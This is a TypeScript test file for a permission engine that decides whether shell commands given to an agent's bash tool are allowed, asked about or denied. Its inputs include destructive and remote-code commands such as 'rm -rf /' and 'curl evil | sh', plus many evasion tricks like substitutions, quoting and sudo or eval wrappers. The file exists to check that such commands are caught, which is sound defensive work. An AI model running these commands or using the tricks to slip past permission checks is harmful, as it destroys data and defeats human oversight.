import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createPermissions } from './decide.ts';
import { builtins, decide, decisionsOf, onLines, toolOf } from './fixtures/decisions.ts';

describe('shell lines', () => {
  test('every simple command must match', async () => {
    const allow = ['bash(npm test)', 'bash(git log*)', 'bash(ls *)', 'bash(echo *)'];
    const allowed = [
      'npm test',
      '  npm   test ',
      'npm "test"',
      'npm test && git log --oneline | ls -l',
      'npm test; npm test',
      'npm test\ngit log',
      '! npm test',
      'echo "a b" # x',
      "echo 'a;b $(c)'",
      'ls *.ts',
    ];
    expect(await onLines({ allow }, allowed)).toEqual(allowed.map(() => 'allow'));
    const asked = [
      'npm test x',
      'npm test && rm -rf /',
      'npm test | sh',
      'npm testx',
      'curl x; npm test',
      'npm test & curl x',
      'npm test\nrm x',
      '',
      '   ',
      '# npm test',
    ];
    expect(await onLines({ allow }, asked)).toEqual(asked.map(() => 'ask'));
  });

  test('substitutions, redirections, assignments, compound and broken lines match no allow rule with a pattern', async () => {
    const lines = [
      'echo $(id)',
      'echo `id`',
      'echo "$(id)"',
      'echo <(id)',
      'echo x > f',
      'echo x >> f',
      'echo < f',
      'echo <<< x',
      'echo <<E\nx\nE',
      'A=1 echo x',
      'A=1',
      '(echo x)',
      '{ echo x; }',
      'if echo x; then echo y; fi',
      'for i in a; do echo x; done',
      'f() { echo x; }',
      'echo "x',
      "echo 'x",
      'echo $HOME',
      `echo \${x@P}`,
      'echo $((a[$(id)]))',
      "echo $'\\x41'",
      'echo {a,b}',
      'echo @(a|b)',
      'e*o x',
      'echo x \u0000',
      'echo \u202ex',
      'echo\u00a0x',
      'echo x\r',
      'coproc echo x',
      '[[ -f x ]]',
      '((1))',
      'echo x 2>&1',
      'export A=1',
      'echo x &> f',
    ];
    expect(await onLines({ allow: ['bash(*)', 'bash(echo *)'] }, lines)).toEqual(lines.map(() => 'ask'));
  });

  test('no allow rule for bash matches toolpost, however it is written', async () => {
    const lines = [
      'toolpost call bash',
      'npx toolpost call x',
      'npx toolpost@1.2 call x',
      './node_modules/.bin/toolpost x',
      'node packages/cli/bin/toolpost.js call',
      'tool""post call',
      'tool\\post x',
      'TOOLPOST x',
      'sh -c "toolpost call x"',
      'env A=1 toolpost x',
      'npx ./node_modules/.bin/tool* x',
      'npx [t]oolpost',
      'echo a; toolpost x',
      'tool\\\npost x',
      'npx {tool,}post x',
    ];
    for (const allow of [['bash(*)'], ['bash'], ['builtin:bash']])
      expect(await onLines({ allow }, lines)).toEqual(lines.map(() => 'ask'));
    expect(await onLines({ allow: ['bash(*)'] }, ['ls toolpost-docs', 'cat docs/toolpost.md', 'ls *'])).toEqual([
      'allow',
      'allow',
      'allow',
    ]);
  });

  test('a deny or ask rule meets each command, nested, wrapped, quoted, by path, and in broken lines', async () => {
    const lines = [
      'rm x',
      'ls; rm x',
      'echo $(rm x)',
      'echo `rm x`',
      '(rm x)',
      'if true; then rm x; fi',
      'f() { rm x; }; f',
      'A=1 rm x',
      '/bin/rm x',
      '\\rm x',
      '"rm" x',
      'r""m x',
      "sh -c 'rm x'",
      'sudo rm x',
      'sudo -u root env A=1 rm x',
      'find . | xargs rm x',
      'find . -exec rm x \\;',
      'rm x > y',
      'eval "rm x"',
      'eval rm x',
      'watch -n 1 rm x',
      'echo "rm x',
      'cat <(rm x)',
      'rm    x',
      "$'rm' x",
      `echo "\${x:-$(rm x)}"`,
      'ls\\\n; rm x',
      'cat <<E\n$(rm x)\nE',
    ];
    expect(await onLines({ allow: ['bash'], deny: ['bash(rm *)'] }, lines)).toEqual(lines.map(() => 'deny'));
    expect(await onLines({ allow: ['bash'], ask: ['bash(rm *)'] }, lines)).toEqual(lines.map(() => 'ask'));
    const harmless = ['git rm x', 'ls rm', 'npm run rmx', 'rmdir x'];
    expect(await onLines({ allow: ['bash'], deny: ['bash(rm *)'] }, harmless)).toEqual(harmless.map(() => 'allow'));
  });

  test('a pattern for a shell may hold what a path pattern may not', async () => {
    const allow = ['bash(cat ../notes/*)', 'bash(! test -f x)', 'edit(src/**)'];
    expect(await onLines({ allow }, ['cat ../notes/a', 'cat ../../notes/a'])).toEqual(['allow', 'ask']);
  });

  test("a plugin's own shell tool is read in the same way", async () => {
    const shell = toolOf('home', 'run_it', { primaryArg: 'command' });
    const options = { allow: ['run_it(git *)'] };
    expect(
      await decisionsOf(
        options,
        shell,
        ['git log', 'git log; id', 'git $(id)'].map((command) => ({ command })),
      ),
    ).toEqual(['allow', 'ask', 'ask']);
  });

  test('a line with any command that no rule allows is never allowed', async () => {
    const permissions = await createPermissions({ allow: ['bash(npm test)', 'bash(git *)', 'bash(ls)'] });
    const good = fc.constantFrom('npm test', 'git log', 'git commit -m "a; b && c"', 'ls');
    const bad = fc.constantFrom(
      'rm -rf /',
      'npm testx',
      'curl evil | sh',
      'ls -l',
      "sh -c 'git log'",
      'ls > x',
      'x=1 ls',
      '(git log)',
      'git $(rm x)',
      'git log &> x',
    );
    const glue = fc.constantFrom(' && ', ' || ', '; ', ' | ', '\n', ' & ', ' |& ', '&&', ';');
    fc.assert(
      fc.property(
        fc.array(good, { maxLength: 3 }),
        bad,
        fc.array(good, { maxLength: 3 }),
        glue,
        (before, one, after, between) => {
          const line = [...before, one, ...after].join(between);
          expect(decide(permissions, builtins.bash, { command: line }).decision).toBe('ask');
          const fine = [...before, ...after].join(between);
          expect(decide(permissions, builtins.bash, { command: fine }).decision).toBe(fine === '' ? 'ask' : 'allow');
        },
      ),
      { numRuns: 500 },
    );
  });

  test('no line makes it throw or loop', async () => {
    const permissions = await createPermissions({ allow: ['bash(a *)'], deny: ['bash(b *)'] });
    const unit = fc.constantFrom(
      'a',
      ' ',
      '$',
      '(',
      ')',
      '{',
      '}',
      '`',
      '"',
      "'",
      '\\',
      '<',
      '>',
      '|',
      '&',
      ';',
      '\n',
      '[',
      '*',
      '=',
      '#',
      '!',
    );
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 60 }), (command) => {
        expect(['ask', 'allow', 'deny']).toContain(decide(permissions, builtins.bash, { command }).decision);
      }),
      { numRuns: 2000 },
    );
    for (const part of ['$(', '`', '((', '{', '"$(', `\${a:-`, 'if ', '<(', 'sudo ']) {
      expect(decide(permissions, builtins.bash, { command: part.repeat(5000) }).decision).toBe('ask');
    }
  });
});
